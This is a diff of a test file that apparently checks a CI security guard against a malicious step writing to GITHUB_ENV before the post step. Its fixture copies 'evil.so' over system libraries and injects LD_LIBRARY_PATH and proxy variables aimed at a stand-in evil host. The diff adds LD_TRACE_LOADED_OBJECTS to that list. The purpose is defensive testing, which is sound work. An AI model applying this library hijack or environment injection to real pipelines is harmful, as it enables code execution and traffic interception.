@@ -139,6 +139,7 @@ describe('GITHUB_ENV before post', () => {
             for name in libdl.so.2 libstdc++.so.6 libm.so.6 libgcc_s.so.1 libpthread.so.0 libc.so.6; do cp evil.so $name; done
             {
               echo LD_LIBRARY_PATH=$PWD
+              echo LD_TRACE_LOADED_OBJECTS=1
               echo https_proxy=http://${WORLD.evil}:9999
               echo HTTPS_PROXY=http://${WORLD.evil}:9999
               echo NODE_USE_ENV_PROXY=1
@@ -155,7 +156,7 @@ describe('GITHUB_ENV before post', () => {
       expect(result.artifacts).toHaveLength(1);
       expect(reached(result, WORLD.evil)).toEqual([]);
       const note = result.log.find(({ type, reason }) => type === 'guard' && reason?.includes('was started without'))?.reason;
-      for (const name of ['LD_LIBRARY_PATH', 'https_proxy', 'HTTPS_PROXY', 'NODE_EXTRA_CA_CERTS', 'NODE_PATH'])
+      for (const name of ['LD_LIBRARY_PATH', 'LD_TRACE_LOADED_OBJECTS', 'https_proxy', 'HTTPS_PROXY', 'NODE_EXTRA_CA_CERTS', 'NODE_PATH'])
         expect(note).toContain(name);
       // The proof that the library would have been loaded: the steps' own programs, but never post.
       expect(whole.machine.inside(['cat', '/home/runner/work/repo/repo/loaded']).stdout).not.toContain('post.js');
